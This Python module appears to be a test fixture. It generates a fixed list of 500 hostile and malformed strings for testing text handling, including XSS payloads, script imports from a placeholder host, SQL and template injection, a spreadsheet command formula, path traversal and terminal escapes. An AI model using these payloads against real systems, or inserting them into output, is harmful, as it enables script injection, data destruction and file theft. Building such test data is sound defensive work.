"""Five hundred strings that break programs which take text for anything but text, the same at each run.

What would run as a script sets `__ran` on the window.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from itertools import chain, zip_longest

RUN = "__ran=1"
COUNT = 500
LONGEST = 300
"""Characters, so that each fits a line."""

_TAGS = (
    "img src=x",
    "svg",
    "video src=x",
    "body",
    "input autofocus",
    "details open",
    "iframe",
    "object data=x",
)
_EVENTS = ("error", "load", "focus", "toggle", "mouseover", "animationstart", "pointerenter")
_SCRIPTS = (f"window.{RUN}", "alert(1)", "fetch('//x.example/a')", "import('//x.example/b')")
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_INVISIBLE = (
    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2061\u2063\ufe0f\u115f\u3164\u00a0\u2028\u2029"
)
_CONTROLS = "".join(map(chr, (0, 1, 7, 8, 9, 11, 12, 26, 27, 31, 127, 128, 133, 155, 159)))
_MARKS = "".join(chr(code) for code in range(0x300, 0x370) if unicodedata.combining(chr(code)))

# fmt: off
STRINGS_BY_KIND: dict[str, tuple[str, ...]] = {
    "handlers": tuple(f"<{tag} on{event}={RUN}>" for tag in _TAGS for event in _EVENTS),
    "scripts": tuple(
        wrapped.format(call)
        for call in _SCRIPTS
        for wrapped in (
            "<script>{}</script>",
            "<ScRiPt\n>{}</sCrIpT >",
            "</script><script>{}//",
            "<svg><script>{}</script></svg>",
            "<a href=\"javascript:{}\">x</a>",
            "'-{}-'",
            "\";{}//",
            "</textarea><script>{}</script>",
            "</title><script>{}</script>",
        )
    ),
    "markup": (
        "<b>bold</b>", "<i>", "</p></div></section>", "</main>", "<!--", "-->", "<!-- x --!>",
        "<![CDATA[x]]>", "]]>",
        "<?xml version='1.0'?>", "<!DOCTYPE html>", "<base href=//x.example/>",
        "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//x.example/x.css>",
        "<meta http-equiv=refresh content='0;url=//x.example'>",
        "<form action=//x.example><button>", "<plaintext>", "<noscript><p title='</noscript><img src=x>'>",
        "<math><mtext></p><style><!--</style><img title='--&gt;'>", "<template>x</template>", "<textarea>",
        "<select>",
        "<svg><use href='data:image/svg+xml,x#x'/></svg>",
        "<svg><foreignObject><p>x</p></foreignObject></svg>",
        "<svg><animate attributeName=href values=javascript:1>", "<image xlink:href=//x.example/x.png>",
        "<a name=wb-leave>",
        "<div id=wb-cover>", "<x style=position:fixed;inset:0>", "<", ">", "<>", "</>", "< b >",
        "1 < 2 && 3 > 2", "<\u0000b>",
    ),
    "entities": (
        "&lt;b&gt;", "&amp;", "&amp;amp;", "&#60;script&#62;", "&#x3c;", "&nbsp;", "&", "&&", "&;", "&#0;",
        "&#xD800;",
        "&colon;", "&NotAnEntity;", "&quot;onclick=1&quot;", "%3Cb%3E", "\\u003cb\\u003e", "\\x3cb\\x3e",
        "+ADw-b+AD4-",
    ),
    "attributes": ("\"", "'", "`", "\" onfocus=x autofocus \"", "' onclick='x", "` onx=`", "\"'`><", "\\\"",
        "\\", "\\\\"),
    "addresses": (
        "javascript:__ran=1", "JaVaScRiPt:__ran=1", "java\tscript:__ran=1",
        "data:text/html,<script>__ran=1</script>",
        "vbscript:x", "file:///etc/passwd", "//x.example/x.js", "https://x.example/?a=1&b=2#c",
        "blob:null/x",
        "http://[::1]:80/", "http://0x7f.1/", "mailto:a@x.example?bcc=b", "tel:116016", "www.x.example",
        "#safety",
    ),
    "templates": (
        "{{7*7}}", "{{ constructor.constructor('__ran=1')() }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
        "{% raw %}", "{# x #}",
        "*{7*7}", "@{7*7}", "[[7*7]]", "${{7*7}}", "{{{x}}}", "<#if x>", "$!x", "#set($x=1)", "@(7*7)",
        "{php}x{/php}",
        "{{ self.__init__ }}", "{%include 'x'%}", "$(id)", "`id`", "$((7*7))", "${IFS}", "%{7*7}", "~[7*7]",
    ),
    "format": (
        "{title}", "{count}", "{name}", "{takeaway}", "{0}", "{}", "{{}}", "{", "}", "{{", "}}",
        "{0.__class__}",
        "{title!r}", "{title:>9999}", "{day:%Y}", "%s", "%d", "%n", "%(title)s", "%", "%%", "%1$s",
        "%x%x%x%x", "\\{title\\}",
        "$title", "${title}", "$1", "\\1", "\\g<0>", "$&",
    ),
    "formulas": (
        "=1+1", "=HYPERLINK(\"//x.example\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1",
        "\r=1+1",
        "=WEBSERVICE(\"//x\")", "=IMPORTXML(\"//x\",\"y\")", "=\"\"", "'=1+1", "--1", "=-1", "|=1", ";=1",
        ",=1", "\uff1d1",
    ),
    "paths": (
        "../../etc/passwd", "..\\..\\x", "/dev/null", "C:\\con", "CON", "NUL.txt", "aux", "%2e%2e%2f",
        "....//", "~", "~/x",
        "$HOME", "%APPDATA%", "\\\\x\\y", "/", ".", "..", "x/", "-rf", "--help", "a:b", "a*b?",
        "file.ipynb", "book.db", "x\x00.txt",
    ),
    "sql": (
        "'; DROP TABLE entries; --", "' OR '1'='1", "\" OR \"\"=\"", "1; SELECT 1", "/* x */", "--",
        "%' --", "_", "\\'; --",
        "' UNION SELECT NULL --", "x' AND 1=(SELECT 1)--", "'||'", "$$x$$", "E'\\x00'", "?", ":name", "@x",
        "NULL", "%", "[x]",
    ),
    "terminal": (
        "\x1b[31mred\x1b[0m", "\x1b[2J", "\x1b]0;title\x07", "\x1b]52;c;eA==\x07", "\x1b[?1049h", "\x9b31m",
        "\x1bc", "\x1b(0",
        "\x1b[6n", "\x1b]8;;//x\x1b\\x", "\x08\x08x", "x\ry", "\x07", "\x1b[1A", "\x0e", "^[[31m",
        "\\e[31m", "\\033[0m",
    ),
    "bidirectional": (*(f"left{mark}right" for mark in _BIDI), *(f"{mark}abc\u202c" for mark in _BIDI[:5]),
        "שלום", "مرحبا abc", "abc שלום 123", "\u202ecod.exe", "(שלום)", "\u2067<b>\u2069", "א" * 60,
        "1 ם 2"),
    "invisible": (*(f"a{mark}b" for mark in _INVISIBLE), "\u200b", "\u200d" * 40, " ", "  ", "a  b", " a",
        "a ", "\u3000", "\ufeffx"),
    "combining": (*("o" + _MARKS[start : start + 12] for start in range(0, 96, 12)), "Z" + _MARKS,
        "e\u0301", "\u00e9", "\u0301",
        "각", "각", "ﷺ" * 20, "𒐫" * 20, "ก็็็็็็็็็็", "ส็็็็็็", "क्ष्म्य"),
    "scripts of the world": (
        "お金の話", "性格の不一致", "사랑", "Ωμέγα", "Привет", "नमस्ते", "ภาษาไทย", "தமிழ்", "ქართული",
        "Հայերեն", "አማርኛ", "ᚠᚢᚦ", "𠜎𠜱",
        "İıŞş", "ßẞ", "ǅ", "ﬁ", "Ⅷ", "𝓗𝓲", "ｆｕｌｌ", "¼½", "١٢٣", "໑໒", "Å Å", "K", "straße", "naïve café",
    ),
    "emoji": (
        "👩‍👩‍👧", "🏳️‍🌈", "👩🏽‍🚀", "🇩🇪", "🇩", "1️⃣", "❤️", "❤", "👍🏿", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🫠", "☠︎", "👨‍❤️‍💋‍👨",
        "🧑🏻‍🤝‍🧑🏿", "😀" * 30, "\U0001f468\u200d", "\ufe0f", "㊙️",
    ),
    "formulas of mathematics": (
        "$x^2$", "$$\\int$$", "\\(x\\)", "\\[x\\]", "\\begin{x}", "\\frac{", "$5 or $6",
        "\\href{javascript:1}{x}", "\\input{/etc/passwd}",
        "$\\unknown$", "$", "$$", "\\$", "x_1^2", "\\text{<b>}", "$\\require{html}$", "`$x$`",
        "\\def\\x{\\x}\\x",
    ),
    "markdown": (
        "**b**", "_i_", "# x", "- x", "1. x", "> x", "`x`", "```\nx\n```", "[x](javascript:__ran=1)",
        "![x](//x.example/x.png)",
        "<https://x.example>", "[x]: //x", "---", "***", "~~x~~", "| a | b |\n|---|---|", "[^1]", "x  \ny",
        "\\*x\\*", "&copy;", "[ ] x",
        "[![x](x)](x)", "<details>", "[[x]]", ":smile:",
    ),
    "data": (
        "{\"a\": 1}", "[1, 2", "\"a\",\"b\"", "a,b;c\td", "a\nb", "a\r\nb", "[table]", "a = 1",
        "key: value", "- !!python/object x", "&x *x",
        "'''", "\"\"\"", "\\n", "\\u0000", "\\ud800", "null", "true", "NaN", "-0", "1e999", "0x1F", "1_000",
        "undefined", "[object Object]",
        "__proto__", "constructor", "toString", "hasOwnProperty", "None", "__class__",
        "<!ENTITY x SYSTEM 'x'>", "\x1e", "#", "a#b", ",", ";",
        "\t", "\n", "BEGIN:VCALENDAR", "END:VEVENT\r\nX:y", "2026-02-30", "9" * 60, "goal:1", "wb-leave",
    ),
    "long": ("W" * LONGEST, "a" * 80 + " " + "b" * 80, "Donaudampfschifffahrt" * 9, "- " * 100, "\n" * 30,
        "i" * 200, "字" * 200, "<" * 99, "{" * 99),
    "controls": tuple(f"a{mark}b" for mark in _CONTROLS),
    "halves of characters": ("a\ud83d", "\ud83d b", "\udc00", "\ud800", "a\udfffb", "\udc00\ud83d",
        "\ud83d\ud83d", "\uffff", "\ufffe", "\ufffd"),
}
# fmt: on
"""By what they would be taken for."""


def _in_turn() -> Iterator[str]:
    """One of each kind, then the next of each, so that a part of them has something of everything."""
    rounds = zip_longest(*STRINGS_BY_KIND.values())
    return (each for each in dict.fromkeys(chain.from_iterable(rounds)) if each is not None)


STRINGS: tuple[str, ...] = tuple(_in_turn())[:COUNT]
SAMPLE: tuple[str, ...] = tuple(dict.fromkeys(some for kind in STRINGS_BY_KIND.values() for some in kind[:3]))
"""Three of each kind."""


def packed(strings: tuple[str, ...], between: str = " ¦ ") -> list[str]:
    """The strings joined to as few lines as they fit on."""
    lines = [""]
    for each in strings:
        joined = f"{lines[-1]}{between}{each}" if lines[-1] else each
        if len(joined) > LONGEST:
            lines.append(each)
        else:
            lines[-1] = joined
    return lines
